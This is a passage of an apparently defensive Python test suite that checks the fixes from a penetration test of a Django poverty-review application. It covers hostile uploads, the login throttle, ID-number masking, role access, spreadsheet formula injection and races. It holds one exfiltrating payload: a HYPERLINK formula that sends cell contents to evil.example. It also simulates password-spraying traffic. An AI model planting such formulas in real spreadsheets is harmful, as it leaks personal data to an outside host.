"""The attacks of the penetration test (issue 12), each a test that failed before its fix:
hostile uploads against the real server and its worker, the login throttle behind the proxy,
ID numbers recovered by search or read unmasked, formula injection in every workbook the
application writes, roles reading more than they need, races, and the smaller findings.
(Scoping, CSRF, XSS, redirects, sessions, path traversal: test_security.py, test_bad_input.py.)
"""

from __future__ import annotations

import datetime as dt
import importlib.util
import io
import json
import os
import re
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse

from giamngheo.web.accounts.models import AccessLog, Assignment, Role
from giamngheo.web.analysis import jobs
from giamngheo.web.analysis.models import SupportPlan, WhatIfRun
from giamngheo.web.api.models import ApiToken
from giamngheo.web.exchange.columns import household_columns, member_columns
from giamngheo.web.exchange.importer import plan_import
from giamngheo.web.exchange.submissions import parse_submissions
from giamngheo.web.exchange.workbook import WorkbookError
from giamngheo.web.households.models import Household, Member
from giamngheo.web.reviews.models import Review, Step
from giamngheo.web.units.models import AdministrativeUnit as Unit

from .factories import make_household, run_review, users_with_roles
from .fresh import fresh_database, giamngheo
from .html_forms import form_with
from .servers import Browser, alive, rss_mb, serving
from .test_analysis import plan_data
from .test_production import HOST, production_env

ROOT = Path(__file__).parents[2]
PASSWORD = "Tà-Lài-rà-soát-2026"
ID_TL, ID_DL = "075080001234", "075080004321"
FORMULA = '=HYPERLINK("http://evil.example/?"&C4&D4,"Bấm vào đây")'
SHORT_FORMULA = '=HYPERLINK("http://x.vn","Mạ")'  # in a field of 40 characters


def benchmark(name: str):
    spec = importlib.util.spec_from_file_location(name, ROOT / "benchmarks" / f"{name}.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


HOSTILE = benchmark("hostile_files")


def template_headers() -> list[str]:
    """Row 1 of a one-sheet workbook with every column of the template: a header check
    passes it."""
    return [c.header for c in household_columns()] + [
        c.header for c in member_columns() if c.key != "household"]


@pytest.fixture(scope="session")
def hostile(tmp_path_factory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("hostile")
    return {
        "corners": HOSTILE.sparse_corners(folder / "goc.xlsx", headers=template_headers()),
        "corners_declared": HOSTILE.sparse_corners(folder / "goc-khai-bao.xlsx",
                                                   with_dimension=True),
        "huge_cell": HOSTILE.huge_cell(folder / "o-lon.xlsx"),
        "zip_bomb": HOSTILE.central_zip_bomb(folder / "odk-central.zip"),
        "million_rows": HOSTILE.million_rows(folder / "trieu-dong.xlsx"),
        "entity": HOSTILE.entity_workbook(folder / "thuc-the.xlsx"),
    }


# --- 1. uploads --------------------------------------------------------------------------

@pytest.fixture
def never_loaded(monkeypatch):
    """Records every call of the Excel reader (calamine): a hostile file must not reach it."""
    import fastexcel

    calls = []
    read = fastexcel.read_excel
    monkeypatch.setattr(fastexcel, "read_excel", lambda *a, **k: calls.append(a) or read(*a, **k))
    return calls


@pytest.mark.django_db
@pytest.mark.parametrize("name, message", [
    ("corners", "Trang tính Hộ gia đình kéo dài tới dòng 1.048.576, cột 16384"),
    ("corners_declared", "Trang tính Hộ gia đình kéo dài tới dòng 1.048.576, cột 16384"),
    ("huge_cell", "Khi giải nén, tệp sẽ chiếm hơn 600 MB"),
    ("million_rows", "kéo dài tới dòng 1.048.576, cột 2"),
    ("entity", "Tệp này không phải là tệp Excel (.xlsx)."),
])
def test_hostile_workbooks_are_refused_before_they_are_read(hostile, place, never_loaded,
                                                            name, message):
    officer = users_with_roles(place[0], Role.COMMUNE_OFFICER)[Role.COMMUNE_OFFICER]
    with pytest.raises(WorkbookError, match=re.escape(message)):
        plan_import(hostile[name], officer)
    assert never_loaded == []


def test_a_zip_bomb_in_an_odk_central_export_is_refused_unread(hostile, never_loaded):
    with pytest.raises(WorkbookError, match="Khi giải nén, tệp sẽ chiếm hơn 600 MB"):
        parse_submissions(hostile["zip_bomb"])


@pytest.mark.django_db
def test_headers_are_checked_before_any_row_is_read(tmp_path, place, never_loaded):
    officer = users_with_roles(place[0], Role.COMMUNE_OFFICER)[Role.COMMUNE_OFFICER]
    path = HOSTILE.million_rows(tmp_path / "sai-tieu-de.xlsx", rows=200_000)
    plan = plan_import(path, officer)
    assert {p.message for p in plan.problems} >= {"Thiếu cột bắt buộc."}
    assert {p.column for p in plan.problems} >= {"Mã hộ", "Họ và tên", "Ngày sinh"}
    assert plan.items == [] and never_loaded == []  # 200,000 rows left unread


@pytest.mark.django_db
def test_a_checked_file_not_imported_is_deleted_after_a_week(place, tmp_path):
    from giamngheo.web.exchange import jobs
    from giamngheo.web.exchange.models import ImportJob

    officer = users_with_roles(place[0], Role.COMMUNE_OFFICER)[Role.COMMUNE_OFFICER]
    files = [tmp_path / "cu.xlsx", tmp_path / "moi.xlsx"]
    for path in files:
        path.write_bytes(b"PK")
    old, new = (ImportJob.objects.create(user=officer, file_name=p.name, path=str(p),
                                         state=ImportJob.State.CHECKED) for p in files)
    ImportJob.objects.filter(pk=old.pk).update(created=old.created - dt.timedelta(days=8))
    assert jobs.expire() == 1
    old.refresh_from_db()
    assert old.state == "failed" and "7 ngày" in old.report["error"]
    assert not files[0].exists() and files[1].exists()


OFFICER_AND_REVIEW = f"""
import datetime as dt
from django.contrib.auth.models import User
from giamngheo.web.accounts.models import Assignment
from giamngheo.web.reviews.models import Review
from giamngheo.web.units.models import AdministrativeUnit as Unit
commune = Unit.objects.get(level="commune", code="26131", valid_from=None)
user = User.objects.create_user("canbo", password="{PASSWORD}")
Assignment.objects.create(user=user, role="commune_officer", unit=commune)
review = Review.objects.create(commune=commune, kind="periodic", period_year=2027,
    reference_date=dt.date(2026, 10, 15), standard_id="vn-2022-2025", opened_by=user,
    step="survey")
print(review.pk)
"""


def prepared(tmp_path, name: str) -> tuple[dict, object, str]:
    """A new database with Tà Lài's officer (and a review at the survey step), and the
    environment of a production server on it: (env, open_database, review id)."""
    fresh, open_database = fresh_database(tmp_path / "data", name)
    env = production_env(tmp_path / "data", **{
        k: v for k, v in fresh.items() if k == "DATABASE_URL"})
    for args in (["migrate", "--verbosity", "0"], ["load_units"]):
        done = giamngheo(env, "manage", *args)
        assert done.returncode == 0, done.stderr
    done = giamngheo(env, "manage", "shell", "-c", OFFICER_AND_REVIEW)
    assert done.returncode == 0, done.stderr
    return env, open_database, done.stdout.strip().splitlines()[-1]


ADDRESS_LIMIT = 10  # failed logins from one address (production: 30), to keep the test short


@pytest.fixture(scope="module")
def production(tmp_path_factory):
    """``giamngheo serve`` (gunicorn, the worker beside it) on a new database, shared by the
    tests that attack a real server: (server, open_database, review id, data folder)."""
    folder = tmp_path_factory.mktemp("production")
    env, open_database, review = prepared(folder, "production")
    env["GIAMNGHEO_ADDRESS_FAILURE_LIMIT"] = str(ADDRESS_LIMIT)
    with serving(env) as server:
        yield server, open_database, review, folder / "data"


def last_job(open_database) -> tuple[str, dict, str, int]:
    """(state, report, worker, attempts) of the latest import job."""
    database = open_database()
    try:
        cursor = database.cursor()
        cursor.execute("SELECT state, report, worker, attempts FROM exchange_importjob "
                       "ORDER BY created DESC LIMIT 1")
        state, report, worker, attempts = cursor.fetchone()
    finally:
        database.close()
    return state, report if isinstance(report, dict) else json.loads(report), worker, attempts


def wait_for_job(open_database, until=lambda job: job[0] not in ("checking", "importing"),
                 timeout: float = 300) -> tuple[str, dict, str, int]:
    deadline = time.monotonic() + timeout
    while True:
        job = last_job(open_database)
        if until(job):
            return job
        assert time.monotonic() < deadline, f"the job did not end: {job}"
        time.sleep(0.2)


@pytest.mark.django_db
def test_the_server_survives_every_hostile_upload(production, hostile):
    """The uploads of the penetration test, sent to ``giamngheo serve`` as a browser sends
    them: each job ends failed with its message, no web process dies or grows, and the
    server, its worker and the job's process stay far under 2 GB."""
    server, open_database, review, data = production
    web, worker = server.web(), server.worker()
    browser = Browser(server.base, HOST)
    assert browser.log_in("canbo", PASSWORD).status == 302
    child_peaks = {}
    for name, message in (
            ("corners", "kéo dài tới dòng 1.048.576, cột 16384"),
            ("huge_cell", "Khi giải nén, tệp sẽ chiếm hơn 600 MB"),
            ("zip_bomb", "Khi giải nén, tệp sẽ chiếm hơn 600 MB"),
            ("million_rows", "kéo dài tới dòng 1.048.576, cột 2"),
            ("entity", "không phải là tệp Excel")):
        path = hostile[name]
        assert browser.open("/exchange/import/").status == 200
        sent = browser.post("/exchange/import/", {"review": review} if name == "zip_bomb"
                            else {}, files={"file": (path.name, path.read_bytes())})
        assert sent.status == 302, (name, sent.read()[:500])
        state, report, _worker, _attempts = wait_for_job(  # with the worker's figures
            open_database, until=lambda job: "peak_memory_mb" in job[1])
        assert state == "failed" and message in report["error"], (name, report)
        page = browser.open(sent.headers["Location"]).read().decode()
        assert message in page and "Không thành công" in page
        assert all(alive(pid) for pid in web + [worker]), name  # nothing died
        child_peaks[name] = report["peak_memory_mb"]
    web_peaks = [rss_mb(pid, "VmHWM") for pid in web]
    assert max(web_peaks) < 300, web_peaks  # the web processes never read a file
    total = sum(web_peaks) + rss_mb(worker, "VmHWM") + max(child_peaks.values())
    assert total < 2048, (web_peaks, child_peaks)
    assert not list((data / "imports").iterdir())  # failed uploads deleted


QUEUE = """
import shutil, sys, uuid
from pathlib import Path
from django.conf import settings
from django.contrib.auth.models import User
from django.contrib.auth.models import User
from giamngheo.web.exchange.models import ImportJob
source = Path(sys.argv[-1])
target = settings.DATA_DIR / "imports" / f"{uuid.uuid4()}.xlsx"
target.parent.mkdir(parents=True, exist_ok=True)
shutil.copy(source, target)
print(ImportJob.objects.create(user=User.objects.get(username="canbo"),
                               file_name=source.name, path=str(target)).pk)
"""


def queue(env, path: Path) -> None:
    done = subprocess.run([sys.executable, "-m", "giamngheo", "manage", "shell", "-c",
                           QUEUE.replace("sys.argv[-1]", repr(str(path)))], env=env,
                          capture_output=True, text=True)
    assert done.returncode == 0, done.stderr


def children(pid: int) -> list[int]:
    try:
        return [int(c) for c in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]
    except FileNotFoundError:
        return []


def wait_for_child(worker: subprocess.Popen, timeout: float = 120) -> int:
    deadline = time.monotonic() + timeout
    while not children(worker.pid):
        assert worker.poll() is None and time.monotonic() < deadline
        time.sleep(0.02)
    return children(worker.pid)[0]


def start_worker(env, *args) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-m", "giamngheo", "worker", *args], env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def stop(process: subprocess.Popen) -> None:
    process.send_signal(signal.SIGTERM)
    process.wait(timeout=60)


@pytest.mark.django_db
def test_a_job_ends_failed_or_runs_again_whatever_happens_to_its_process(tmp_path):
    env, open_database, _review = prepared(tmp_path, "crashes")
    env["GIAMNGHEO_JOB_SECONDS"] = "600"
    workbooks = benchmark("synthetic_workbook")
    small = tmp_path / "3000-ho.xlsx"
    workbooks.write_workbook(small, 3000, ["26131"])
    large = tmp_path / "20000-ho.xlsx"
    workbooks.write_workbook(large, 20_000, ["26131"])

    # its process runs out of memory (here 512 MB of address space): failed, with a message
    worker = start_worker(env, "--memory-mb", "512")
    queue(env, large)
    state, report, _w, _a = wait_for_job(open_database)
    assert state == "failed" and "cần nhiều bộ nhớ hoặc thời gian hơn mức cho phép (512 MB" \
        in report["error"], report
    stop(worker)

    # its process is killed: failed, with a message; the worker goes on with the next job
    worker = start_worker(env)
    queue(env, small)
    os.kill(wait_for_child(worker), signal.SIGKILL)
    state, report, _w, _a = wait_for_job(open_database)
    assert state == "failed" and "Chưa có gì được ghi" in report["error"], report
    queue(env, small)
    assert wait_for_job(open_database)[0] == "checked" and worker.poll() is None

    # the worker itself dies (with its job's process): the next worker runs the job again
    queue(env, small)
    child = wait_for_child(worker)
    worker.send_signal(signal.SIGKILL)
    worker.wait()
    deadline = time.monotonic() + 30
    while alive(child) and Path(f"/proc/{child}/stat").read_text().split()[2] != "Z":
        assert time.monotonic() < deadline, "the job's process outlived its worker"
        time.sleep(0.02)
    assert last_job(open_database)[0] == "checking"  # left running by the dead worker
    worker = start_worker(env)
    state, _report, _w, attempts = wait_for_job(open_database)
    assert state == "checked" and attempts == 2

    # a job its workers dropped twice (the last one on another machine, silent since) ends
    # failed, with a message, and its file deleted
    stop(worker)
    queue(env, small)
    database = open_database()
    database.cursor().execute("UPDATE exchange_importjob SET worker = 'gone:999999', "
                              "heartbeat = NULL, attempts = 2 WHERE state = 'checking'")
    database.commit()
    database.close()
    worker = start_worker(env)
    state, report, _w, _a = wait_for_job(open_database)
    assert state == "failed" and "Máy chủ đã dừng hai lần" in report["error"]
    stop(worker)
    database = open_database()
    cursor = database.cursor()
    cursor.execute("SELECT path FROM exchange_importjob WHERE state = 'checked'")
    waiting = {Path(path) for (path,) in cursor.fetchall()}  # checked, to be imported
    database.close()
    assert set((tmp_path / "data" / "imports").iterdir()) == waiting and len(waiting) == 2


# --- 2. the login throttle behind the proxy ------------------------------------------------

@pytest.mark.django_db
def test_a_strangers_failures_never_lock_the_user_out_behind_the_proxy(production):
    server = production[0]
    def log_in(address: str, username: str = "canbo", password: str = PASSWORD) -> int:
        return Browser(server.base, HOST, address).log_in(username, password).status

    attacker, home = "113.161.1.1", "14.160.2.2"
    tries = [log_in(attacker, password="sai") for _ in range(settings.AXES_FAILURE_LIMIT)]
    assert tries[:-1] == [200] * (settings.AXES_FAILURE_LIMIT - 1) and tries[-1] == 429
    assert log_in(attacker) == 429  # the right password, from the attacker's address
    # the attacker's own X-Forwarded-For comes before the address nginx appends
    assert log_in(f"{home}, {attacker}") == 429
    assert log_in(home) == 302  # the user, from their own address
    # many names tried from one address: that address is paused for every name
    sprayer = "171.244.3.3"
    for n in range(ADDRESS_LIMIT):
        assert log_in(sprayer, f"ten-{n}", "sai") == 200
    assert log_in(sprayer) == 429
    assert log_in("27.72.4.4") == 302


# --- 3, 4, 6. who reads which personal data --------------------------------------------------

@pytest.fixture
def people(area):
    """Tà Lài (TL-1..3, closed reviews, certificates) and Đak Lua (DL-1) under the district;
    users holding different roles on different units."""
    district, commune, officer = area
    Member.objects.filter(household__code="TL-1", relation="head").update(id_number=ID_TL)
    Member.objects.filter(household__code="DL-1", relation="head").update(id_number=ID_DL)
    users = users_with_roles(district, Role.MONITOR, Role.FINANCE_OFFICER)
    users["mixed"] = User.objects.create_user("mixed")
    Assignment.objects.create(user=users["mixed"], role=Role.COMMUNE_OFFICER, unit=commune)
    Assignment.objects.create(user=users["mixed"], role=Role.MONITOR, unit=district)
    users[Role.SURVEYOR] = users_with_roles(commune, Role.SURVEYOR)[Role.SURVEYOR]
    users[Role.AREA_OFFICER] = users_with_roles(district.parent, Role.AREA_OFFICER)[
        Role.AREA_OFFICER]
    users[Role.COMMUNE_CHAIR] = users_with_roles(commune, Role.COMMUNE_CHAIR)[
        Role.COMMUNE_CHAIR]
    review = Review.objects.filter(commune=commune, step=Step.CLOSED).latest("period_year")
    review.issue_certificates(users[Role.COMMUNE_CHAIR], dt.date(2025, 1, 5))
    return users, review


def client_of(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.mark.django_db
def test_a_full_id_number_is_searched_only_where_the_role_sees_id_numbers(people):
    users, _review = people
    monitor = client_of(users[Role.MONITOR])
    page = monitor.get(reverse("households:list"), {"q": ID_TL}).content.decode()
    assert "TL-1" not in page and "Chỉ các vai trò được xem số CCCD" in page
    key = ApiToken.issue(users[Role.MONITOR], "thử")[1]
    api = monitor.get("/api/households", {"q": ID_TL}, HTTP_AUTHORIZATION=f"Bearer {key}")
    assert api.status_code == 403
    mixed = client_of(users["mixed"])  # sees ID numbers in Tà Lài only
    assert "TL-1" in mixed.get(reverse("households:list"), {"q": ID_TL}).content.decode()
    assert "DL-1" not in mixed.get(reverse("households:list"), {"q": ID_DL}).content.decode()
    logged = " ".join(AccessLog.objects.values_list("what", flat=True))
    assert "CCCD" in logged and ID_TL not in logged and ID_DL not in logged


def id_cell(html: str, code: str) -> str:
    row = re.search(rf">{code}</a></td>.*?</tr>", html, re.S).group(0)
    return re.search(r"\d{3}[\d*]{6}\d{3}", row).group(0)


@pytest.mark.django_db
def test_masking_is_decided_on_the_households_own_unit(people):
    users, review = people
    mixed = client_of(users["mixed"])  # commune officer of Tà Lài, monitor of the district
    page = mixed.get(reverse("households:list")).content.decode()
    assert id_cell(page, "TL-1") == ID_TL and id_cell(page, "DL-1") == "075******321"
    assert ID_DL not in mixed.get(reverse("households:detail", args=["DL-1"])).content.decode()
    assert ID_TL in mixed.get(reverse("households:detail", args=["TL-1"])).content.decode()
    exported = workbook_values(mixed.get(reverse("exchange:export")))
    assert ID_TL in exported and not any(v.startswith("DL-") for v in exported)

    province = client_of(users[Role.AREA_OFFICER])  # exports, but sees no ID number
    for response in (province.get(reverse("reviews:certificates", args=[review.pk])),
                     province.get(reverse("reviews:lists_xlsx", args=[review.pk])),
                     province.get(reverse("exchange:export"))):
        assert response.status_code == 200
        content = b"".join(response) if response.streaming else response.content
        text = " ".join(values_of(content)) if content[:2] == b"PK" else content.decode()
        assert ID_TL not in text and "075******234" in text

    surveyor = client_of(users[Role.SURVEYOR])  # enters data, sees no ID number
    form = surveyor.get(reverse("households:edit", args=["TL-1"])).content.decode()
    assert ID_TL not in form and "075******234" in form
    assert AccessLog.objects.filter(user=users[Role.SURVEYOR],
                                    what="household TL-1 (edit form)").exists()


@pytest.mark.django_db
def test_a_masked_id_number_sent_back_means_unchanged(people):
    users, _review = people
    surveyor = client_of(users[Role.SURVEYOR])
    url = reverse("households:edit", args=["TL-1"])
    fields = form_with(surveyor.get(url).content.decode(), "version")
    fields["address"] = ["Ấp 4, tổ 2"]
    assert surveyor.post(url, fields).status_code == 302
    head = Member.objects.get(household__code="TL-1", relation="head")
    assert head.id_number == ID_TL and head.household.address == "Ấp 4, tổ 2"
    fields = form_with(surveyor.get(url).content.decode(), "version")
    id_field = next(k for k, v in fields.items() if v == ["075******234"])
    fields[id_field] = [""]  # blanking what one was shown masked
    page = surveyor.post(url, fields).content.decode()
    assert "không thể xoá" in page
    assert Member.objects.get(pk=head.pk).id_number == ID_TL

    key = ApiToken.issue(users[Role.SURVEYOR], "thử")[1]
    auth = {"HTTP_AUTHORIZATION": f"Bearer {key}"}
    read = surveyor.get("/api/households/TL-1", **auth).json()
    assert read["members"][0]["id_number"] == "075******234"
    read["address"] = "Ấp 4, tổ 3"
    put = surveyor.put("/api/households/TL-1", json.dumps(read), "application/json", **auth)
    assert put.status_code == 200, put.content
    assert Member.objects.get(household__code="TL-1", relation="head", left_on=None) \
        .id_number == ID_TL
    read = put.json()
    read["members"][0]["id_number"] = ""
    put = surveyor.put("/api/households/TL-1", json.dumps(read), "application/json", **auth)
    assert put.status_code == 400 and "không thể xoá" in put.json()["detail"]
    assert Member.objects.get(household__code="TL-1", relation="head", left_on=None) \
        .id_number == ID_TL


@pytest.mark.django_db
def test_the_finance_officer_reads_figures_not_households(people):
    users, review = people
    finance = client_of(users[Role.FINANCE_OFFICER])
    assert finance.get("/")["Location"] == reverse("reports:dashboard")
    page = finance.get(reverse("households:list")).content.decode()
    assert "TL-1" not in page and "Chủ hộ TL-1" not in page
    assert "chỉ xem số liệu tổng hợp" in page and 'href="/households/"' not in page
    assert finance.get(reverse("households:detail", args=["TL-1"])).status_code == 404
    lists = finance.get(reverse("reviews:lists", args=[review.pk])).content.decode()
    assert "Chủ hộ TL-1" not in lists and "TL-1" not in lists
    assert finance.get(reverse("reviews:detail", args=[review.pk])).status_code == 200
    key = ApiToken.issue(users[Role.FINANCE_OFFICER], "thử")[1]
    auth = {"HTTP_AUTHORIZATION": f"Bearer {key}"}
    assert finance.get("/api/households", **auth).json()["count"] == 0
    assert finance.get(f"/api/reviews/{review.pk}/results", **auth).status_code == 403
    eligible = finance.get(reverse("support:eligible")).content.decode()
    assert "Chủ hộ" not in eligible and "TL-1" not in eligible
    assert finance.get(reverse("reports:dashboard")).status_code == 200  # the figures


# --- 5. formula injection ---------------------------------------------------------------------

def workbook_values(response) -> list[str]:
    content = b"".join(response) if getattr(response, "streaming", False) else response.content
    return values_of(content)


def values_of(content: bytes) -> list[str]:
    import fastexcel

    reader = fastexcel.read_excel(content)
    return [str(v) for name in reader.sheet_names
            for row in reader.load_sheet(name, header_row=None, dtypes="string").to_polars()
            .iter_rows() for v in row if v is not None]


def live_formulas_and_links(content: bytes) -> list[str]:
    """Formulas (``<f>``) and links (``<hyperlink``, external relationships) in a workbook's
    sheets: none may come from the data."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        for name in book.namelist():
            text = book.read(name).decode("utf-8", "replace")
            if name.startswith("xl/worksheets/") and re.search(r"<f[ >]|<hyperlink", text):
                found.append(name)
            if 'TargetMode="External"' in text:
                found.append(name)
    return found


@pytest.mark.django_db
def test_every_workbook_writes_text_as_text(people, tmp_path, monkeypatch):
    """A name, an address, notes, an ethnic group and a hamlet typed as a formula come out
    of every workbook the application writes as those characters, never a live formula or
    link, beside the ID numbers."""
    users, review = people
    head = Member.objects.get(household__code="TL-1", relation="head")
    Member.objects.filter(pk=head.pk).update(full_name=FORMULA, ethnicity=SHORT_FORMULA)
    Household.objects.filter(code="TL-1").update(address=FORMULA, notes=FORMULA)
    Household.refresh_search_text(head.household_id)
    Unit.objects.filter(code="26131-04").update(name=FORMULA)
    from giamngheo.web.support.models import Support

    Support.objects.create(household=head.household, member=head, kind="health_insurance",
                           given_on=dt.date.today(), recorded_by=users["mixed"])
    officer = client_of(users["mixed"])
    chair = client_of(users[Role.COMMUNE_CHAIR])
    commune = review.commune
    area = {"unit": commune.pk, "year": review.period_year}
    monkeypatch.setattr(jobs, "start", lambda target, plan_id, lang: target(plan_id, lang))
    officer.post(reverse("analysis:whatif_review", args=[review.pk]),
                 {"standard": "vn-2027-2030"})
    officer.post(reverse("analysis:plan_new") + f"?unit={commune.pk}", plan_data())
    web = {
        "exchange:export": officer.get(reverse("exchange:export")),
        "exchange:template": officer.get(reverse("exchange:template")),
        "exchange:xlsform": officer.get(reverse("exchange:xlsform"), {"scorecard": "example"}),
        "reviews:lists_xlsx": chair.get(reverse("reviews:lists_xlsx", args=[review.pk])),
        "reports:review_tables": chair.get(reverse("reports:review_tables"), area),
        "reports:dashboard_xlsx": chair.get(reverse("reports:dashboard_xlsx"), area),
        "support:list_xlsx": officer.get(reverse("support:list_xlsx"), {"unit": commune.pk}),
        "support:eligible_xlsx": officer.get(reverse("support:eligible_xlsx"),
                                             {"unit": commune.pk}),
        "analysis:whatif_xlsx": officer.get(reverse("analysis:whatif_xlsx",
                                                    args=[WhatIfRun.objects.get().pk])),
        "analysis:plan_xlsx": officer.get(reverse("analysis:plan_xlsx",
                                                  args=[SupportPlan.objects.get().pk])),
    }
    assert set(web) == xlsx_urls()  # every workbook the pages offer
    books = {}
    for name, response in web.items():
        assert response.status_code == 200, name
        books[name] = b"".join(response) if response.streaming else response.content
    from django.core.management import call_command

    call_command("export_households", "-o", str(tmp_path / "xuat.xlsx"))
    books["export command"] = (tmp_path / "xuat.xlsx").read_bytes()
    record = tmp_path / "ho.json"
    record.write_text(json.dumps({
        "id": FORMULA, "reference_date": "2025-10-15", "area": "rural",
        "income": {"monthly_per_capita": 1_000_000},
        "members": [{"id": "1", "relation": "head", "birth_date": "1980-01-01",
                     "sex": "male", "health_insurance": False}]}))
    classified = subprocess.run([sys.executable, "-m", "giamngheo", "classify", str(record),
                                 "-o", str(tmp_path / "kq.xlsx")], capture_output=True)
    assert classified.returncode == 0, classified.stderr
    books["classify command"] = (tmp_path / "kq.xlsx").read_bytes()
    for name, content in books.items():
        assert live_formulas_and_links(content) == [], name
    for name in ("exchange:export", "reviews:lists_xlsx", "reports:review_tables",
                 "support:list_xlsx", "support:eligible_xlsx", "export command",
                 "classify command"):
        assert FORMULA in values_of(books[name]), name  # the data reached the workbook


def xlsx_urls() -> set[str]:
    """The names of every URL of the application that answers with a workbook (".xlsx")."""
    from django.urls import URLPattern, URLResolver, get_resolver

    found = set()

    def walk(patterns, namespace: str) -> None:
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, pattern.namespace or namespace)
            elif isinstance(pattern, URLPattern) and str(pattern.pattern).endswith(".xlsx"):
                found.add(f"{namespace}:{pattern.name}")
    walk(get_resolver().url_patterns, "")
    return found


def test_every_workbook_comes_from_the_one_factory():
    """One place writes workbooks (giamngheo.xlsx): any other way of making one would not
    keep text as text."""
    others = [str(path.relative_to(ROOT)) for path in (ROOT / "src").rglob("*.py")
              if "xlsxwriter.Workbook(" in path.read_text(encoding="utf-8")
              and path.name != "xlsx.py"]
    assert others == []


# --- 7. races ---------------------------------------------------------------------------------

RACE_SETUP = """
from django.contrib.auth.models import User
from giamngheo.web.accounts.models import Assignment
from giamngheo.web.reviews.models import Step
from giamngheo.web.units.models import AdministrativeUnit as Unit
from tests.web.factories import make_household, run_review
commune = Unit.objects.get(level="commune", code="26131", valid_from=None)
hamlet = Unit.objects.create(code="26131-04", name="Ấp 4", kind="ap", level="hamlet",
                             parent=commune)
for name, role in (("chutich1", "commune_chair"), ("chutich2", "commune_chair"),
                   ("canbo1", "commune_officer"), ("canbo2", "commune_officer")):
    Assignment.objects.create(user=User.objects.create_user(name), role=role, unit=commune)
household = make_household(commune, hamlet, "TL-1", 1_000_000, deprived=True)
review = run_review(commune, hamlet, User.objects.get(username="canbo1"), 2025, [household],
                    until=Step.DECISION)
print(review.pk)
"""
RACE = """
import json, os, re, time
from pathlib import Path
from django.contrib.auth.models import User
from django.test import Client
from giamngheo.web.households import views as household_views
from giamngheo.web.reviews import views as review_views
from tests.web.html_forms import form_with

barrier = Path(os.environ["BARRIER"])


def arrive():
    '''Both processes have read what they act on before either acts.'''
    (barrier / str(os.getpid())).touch()
    deadline = time.monotonic() + 60
    while len(list(barrier.iterdir())) < 2 and time.monotonic() < deadline:
        time.sleep(0.005)


def after(module, name):
    original = getattr(module, name)

    def wrapped(*args, **kwargs):
        if module is review_views:
            result = original(*args, **kwargs)
            arrive()
            return result
        arrive()
        return original(*args, **kwargs)
    setattr(module, name, wrapped)


client = Client()
client.force_login(User.objects.get(username=os.environ["AS_USER"]))
url, data = os.environ["URL"], json.loads(os.environ["DATA"])
if data.pop("_form", None):
    fields = form_with(client.get(url).content.decode(), "version")
    data = {**fields, **data}
    after(household_views, "_save")
else:
    after(review_views, "_review_for")
response = client.post(url, data, follow=True)
page = response.content.decode()
print(json.dumps({"status": response.status_code, "page": page}))
"""


def race(env, barrier: Path, *requests: tuple[str, str, dict]) -> list[dict]:
    """The requests (user, url, data) sent at once by separate processes (each its own
    database connection), each having read the review or household before either acts."""
    barrier.mkdir()
    processes = [subprocess.Popen(
        [sys.executable, "-m", "giamngheo", "manage", "shell", "-c", RACE], cwd=ROOT,
        env={**env, "BARRIER": str(barrier), "AS_USER": user, "URL": url,
             "DATA": json.dumps(data), "GIAMNGHEO_ALLOWED_HOSTS": "testserver"},
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        for user, url, data in requests]
    results = []
    for process in processes:
        out, err = process.communicate(timeout=180)
        assert process.returncode == 0, err
        results.append(json.loads(out.strip().splitlines()[-1]))
    return results


def count(open_database, sql: str) -> int:
    database = open_database()
    try:
        cursor = database.cursor()
        cursor.execute(sql)
        return cursor.fetchone()[0]
    finally:
        database.close()


@pytest.mark.django_db
def test_of_two_people_acting_at_once_the_second_is_told(tmp_path):
    """Two chairs closing the same step, then reopening the same review, two officers saving
    the same household: one acts, the other is told what happened, in Vietnamese; never
    "the database cannot be reached", never both."""
    env, open_database = fresh_database(tmp_path / "data", "races")
    for args in (["migrate", "--verbosity", "0"], ["load_units"]):
        assert giamngheo(env, "manage", *args).returncode == 0
    done = subprocess.run([sys.executable, "-m", "giamngheo", "manage", "shell", "-c",
                           RACE_SETUP], env=env, cwd=ROOT, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    review = done.stdout.strip().splitlines()[-1]
    act = lambda action: reverse("reviews:act", args=[int(review), action])  # noqa: E731
    told = "Người khác vừa thay đổi đợt rà soát này"

    closing = race(env, tmp_path / "close", ("chutich1", act("advance"), {"step": "decision"}),
                   ("chutich2", act("advance"), {"step": "decision"}))
    assert [r["status"] for r in closing] == [200, 200]
    assert sorted(told in r["page"] for r in closing) == [False, True], closing
    assert count(open_database, "SELECT COUNT(*) FROM reviews_steprecord WHERE step = "
                 "'decision'") == 1

    reopening = race(env, tmp_path / "reopen",
                     ("chutich1", act("reopen"), {"reason": "Sai sót hộ TL-1"}),
                     ("chutich2", act("reopen"), {"reason": "Sai sót hộ TL-1"}))
    assert sorted(told in r["page"] for r in reopening) == [False, True], reopening
    assert count(open_database, "SELECT COUNT(*) FROM reviews_steprecord WHERE note LIKE "
                 "'reopened:%'") == 1

    edit = reverse("households:edit", args=["TL-1"])
    saving = race(env, tmp_path / "save",
                  ("canbo1", edit, {"_form": True, "address": "Tổ 1"}),
                  ("canbo2", edit, {"_form": True, "address": "Tổ 2"}))
    assert [r["status"] for r in saving] == [200, 200]
    assert sorted("Người khác đã lưu hộ này sau khi bạn mở trang" in r["page"]
                  for r in saving) == [False, True], saving
    assert count(open_database, "SELECT version FROM households_household") == 2
    for result in closing + reopening + saving:
        assert "không kết nối được cơ sở dữ liệu" not in result["page"]


# --- 8. the smaller findings -------------------------------------------------------------------

@pytest.fixture
def api_user(place):
    commune, hamlet = place
    officer = User.objects.create_user("api-canbo")
    Assignment.objects.create(user=officer, role=Role.COMMUNE_OFFICER, unit=commune)
    make_household(commune, hamlet, "26131-1", 1_000_000, deprived=True)
    dak_lua = Unit.objects.get(level="commune", code="26119", valid_from=None)
    make_household(dak_lua, None, "26119-1", 1_000_000, deprived=True)
    key = ApiToken.issue(officer, "thử")[1]
